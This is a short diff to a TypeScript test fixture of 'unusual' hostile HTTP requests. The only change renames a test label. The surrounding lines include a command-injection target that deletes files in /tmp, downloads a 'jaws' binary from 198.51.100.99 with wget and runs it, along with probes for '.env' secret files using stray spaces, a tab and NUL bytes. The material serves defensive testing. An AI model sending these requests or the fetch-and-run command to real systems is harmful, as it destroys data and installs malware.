@@ -379,7 +379,7 @@ function unusualRequests(time: Date): HostileRequest[] {
       target: '/shell?cd+/tmp;rm+-rf+*;wget+ http://198.51.100.99/jaws;sh+/tmp/jaws',
     }),
     make('space in the target', { target: '/a b/.env' }),
-    make('space behind the target', { target: '/.env ' }),
+    make('space after the target', { target: '/.env ' }),
     make('two spaces in front of the target', { target: ' /.env' }),
     make('tab in the target', { target: '/.env?\tx' }),
     make('NUL in the target', { target: '/.env?\0x' }),
